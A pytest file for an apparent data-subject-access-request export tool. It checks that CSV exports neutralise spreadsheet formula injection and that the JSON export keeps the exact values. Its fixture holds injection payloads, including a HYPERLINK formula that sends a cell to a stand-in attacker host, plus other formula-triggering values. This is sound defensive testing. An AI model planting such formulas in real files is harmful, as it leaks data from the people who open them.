"""Export CSVs are safe to open in a spreadsheet; data.json keeps the exact values."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest

from dsar.core.csv_cells import NOTE
from dsar.core.paths import TEMPLATES_DIR
from dsar.files.storage import FileStore
from dsar.fulfilment.export import build_export
from dsar.fulfilment.models import ExportKind
from dsar.sources import connector_for
from tests.fulfilment.test_export import _prepared

# What a customer could type into the shop's forms, and a number the database holds as one.
TYPED = {
    "first_name": '=HYPERLINK("https://evil.example/?x="&B2,"Zoë")',
    "last_name": "+SUM(1,1)",
    "street": "-2+3",
    "city": "@SUM(1)",
    "postcode": "\t80331",
    "phone": "\r+49 30 7967545",
}
NUMBER = ("id", -5)


class _Typed:
    """The demo shop's connector, with the customer's row changed as above."""

    def __init__(self, inner: Any) -> None:
        self.inner, self.source_id = inner, inner.source_id

    def rows(self, subject: Any, part: str) -> Iterator[dict[str, Any]]:
        for row in self.inner.rows(subject, part):
            if part == "customers":
                row = {**row, **TYPED, NUMBER[0]: NUMBER[1]}
            yield row

    def __getattr__(self, name: str) -> Any:
        return getattr(self.inner, name)


def _typed_connectors(source: Any) -> Any:
    inner = connector_for(source)
    return None if inner is None else _Typed(inner)


@pytest.mark.parametrize("kind", [ExportKind.ACCESS, ExportKind.PORTABILITY])
def test_formula_cells_are_neutralised_in_csv_and_exact_in_json(
    app, session, now, verified_request, kind
):
    request = verified_request()
    register = _prepared(app, session, now, request)
    store = FileStore.from_settings(app.config["DSAR_SETTINGS"])
    built = build_export(
        session,
        request,
        register,
        store,
        kind=kind,
        actor="dana@example.org",
        now=now,
        download_days=14,
        templates=str(TEMPLATES_DIR),
        connectors=_typed_connectors,
    )
    archive = zipfile.ZipFile(io.BytesIO(store.read(built.export.file)))

    text = archive.read("shop_db/customers.csv").decode("utf-8")
    data = json.loads(archive.read("data.json"))
    part = next(p for p in data["sources"][0]["parts"] if p["name"] == "customers")
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert header == [c["label"] for c in part["columns"]]  # people's labels, in order
    cells = dict(zip([c["name"] for c in part["columns"]], row, strict=True))
    for column, typed in TYPED.items():
        assert cells[column] == "'" + typed, column
    if NUMBER[0] in cells:  # the access export has the id; portability only provided data
        assert cells[NUMBER[0]] == "-5"  # a real number is not text: no quote
    (record,) = part["rows"]
    assert {c: record[c] for c in TYPED} == TYPED
    assert record.get(NUMBER[0], -5) == -5
    assert json.loads(archive.read("manifest.json"))["csv_cells"] == NOTE
